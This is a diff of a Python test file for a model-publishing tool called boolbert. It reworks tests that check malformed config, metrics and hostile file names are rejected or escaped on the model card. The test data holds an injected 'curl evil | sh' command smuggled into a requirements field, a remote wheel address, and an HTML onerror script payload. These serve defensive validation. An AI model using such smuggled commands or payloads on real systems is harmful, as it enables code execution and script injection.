@@ -11,7 +11,7 @@ from safetensors.torch import save_file
 from boolbert import hub_upload
 from boolbert.core.errors import BoolBertError, HubError
 from boolbert.hub.assemble import assemble
-from boolbert.hub.card import card_data, card_text, data_name, literal, results_table
+from boolbert.hub.card import card_data, card_text, data_name
 from boolbert.hub.refuse import refusals, text_refusals
 
 
@@ -37,6 +37,7 @@ def write(file, content):
         file.write_bytes(content if isinstance(content, bytes) else json.dumps(content).encode())
 
 
+SETTINGS = "config_sentence_transformers.json"
 DEEP = b"[" * 100_000 + b"]" * 100_000
 MALFORMED = {
     "modules.json, an object": ("modules.json", {}, "modules.json: must be a list of objects"),
@@ -52,22 +53,14 @@ MALFORMED = {
     "config, a list": ("config.json", [1], "config.json: expected a JSON object, got [1]"),
     "config, no size": ("config.json", {"model_type": "boolbert"}, "config.json: field 'hidden_size' must be"),
     "config, not UTF-8": ("config.json", b'{"a": "\xff"}', "config.json: not valid JSON"),
-    "settings, a text": ("config_sentence_transformers.json", "x", "expected a JSON object, got 'x'"),
-    "requirements, a list": ("config_sentence_transformers.json", {"requirements": ["x"]}, "must be an object of"),
-    "requirements, a command": (
-        "config_sentence_transformers.json",
-        {"requirements": {"torch": '"; curl evil | sh'}},
-        "no package",
-    ),
-    "requirements, an address": (
-        "config_sentence_transformers.json",
-        {"requirements": {"torch": " @ https://evil.example/x.whl"}},
-        "names and versions alone",
-    ),
+    "settings, a text": (SETTINGS, "x", "expected a JSON object, got 'x'"),
+    "requirements, a list": (SETTINGS, {"requirements": ["x"]}, "must be an object of"),
+    "requirements, a command": (SETTINGS, {"requirements": {"torch": '"; curl evil | sh'}}, "no package"),
+    "requirements, an address": (SETTINGS, {"requirements": {"torch": " @ https://a.b/c.whl"}}, "names and versions"),
     "metrics, a list": ("metrics.json", [], "metrics.json: expected a JSON object"),
     "metrics, cut short": ("metrics.json", b'{"dev": {', "metrics.json: not valid JSON"),
     "metrics, not a number": ("metrics.json", b'{"dev": {"mrr@10": NaN}}', "'mrr@10' is nan: the run diverged"),
-    "metrics, too large": ("metrics.json", b'{"mrr": 1' + b"0" * 400 + b"}", "'mrr' is too large for a metric"),
+    "metrics, too large": ("metrics.json", b'{"mrr": 1' + b"0" * 400 + b"}", "'mrr' is 1000"),
     "arguments, a list": ("args.json", [], "args.json: expected a JSON object"),
     "tokenizer, missing": ("document_encoder/tokenizer.json", None, "document_encoder: tokenizer.json is missing"),
     "module, a pickle": ("1_Pooling/weights.pt", b"\x80\x02", "only .json and .safetensors"),
@@ -212,30 +205,20 @@ HOSTILE_NAMES = [
 ]
 
 
-@pytest.mark.parametrize("name", HOSTILE_NAMES)
-def test_a_name_from_a_file_is_shown_as_it_is(name):
-    """Rendered as Markdown and parsed as HTML: one paragraph that holds the name's letters, and no other element."""
-    rendered = MarkdownIt("commonmark", {"html": True}).render(f"{literal(name)}.")
-    document = html5lib.parseFragment(rendered, namespaceHTMLElements=False)
-    assert {element.tag for element in document.iter() if element.tag != "DOCUMENT_FRAGMENT"} <= {"p", "code"}
-    shown = "".join(document.itertext()).strip().replace("\\|", "|")  # a table takes the backslash away
-    assert shown == " ".join(name.split()).replace("\x1b", "\\x1b").replace("\u202e", "\\u202e") + "."
-
-
 def test_hostile_names_in_the_card(run_dir):
-    data = "<img src=x onerror=alert(1)>"
-    content = {"arguments": {"data": f"/home/someone/{data}"}, "<b>dev</b>": {"a|b": 0.5, "<i>": 0.25}}
-    write(run_dir / "metrics.json", content)
-    assert data_name(run_dir) == data
+    """Rendered as Markdown and parsed as HTML, names from files are their letters, and no other element."""
+    sections = {f"{name} dev": dict.fromkeys(HOSTILE_NAMES, 0.5) for name in HOSTILE_NAMES}
+    write(run_dir / "metrics.json", {"arguments": {"data": f"/home/someone/{HOSTILE_NAMES[1]}"}, **sections})
+    assert data_name(run_dir) == HOSTILE_NAMES[1]
     rendered = MarkdownIt("commonmark", {"html": True}).enable("table").render(card_text(run_dir, "org/name"))
     document = html5lib.parse(rendered, namespaceHTMLElements=False)
-    tags = {element.tag for element in document.iter()}
-    assert not tags & {"img", "b", "i", "script"}
-    cells = ["".join(cell.itertext()) for cell in document.iter() if cell.tag in ("th", "td")]
-    assert cells == ["", "a|b", "<i>", "<b>dev</b>", "0.5", "0.25"]
-    assert data in "".join(document.itertext())
+    assert not {element.tag for element in document.iter()} & {"img", "b", "i", "script"}
+    (table,) = document.iter("table")
+    assert {element.tag for element in table.iter()} == {"table", "thead", "tbody", "tr", "th", "td", "code"}
+    shown = [" ".join(name.split()).replace("\x1b", "\\x1b").replace("\u202e", "\\u202e") for name in HOSTILE_NAMES]
+    assert ["".join(head.itertext()) for head in table.iter("th")] == ["", *shown]
+    assert HOSTILE_NAMES[1] in "".join(document.itertext())
     assert card_data(run_dir, "org/name").to_yaml()
-    assert "`<b>dev</b>`" in results_table(run_dir)
 
 
 def test_a_folder_that_is_gone_is_not_published_as_a_data_set_of_the_hub(run_dir):
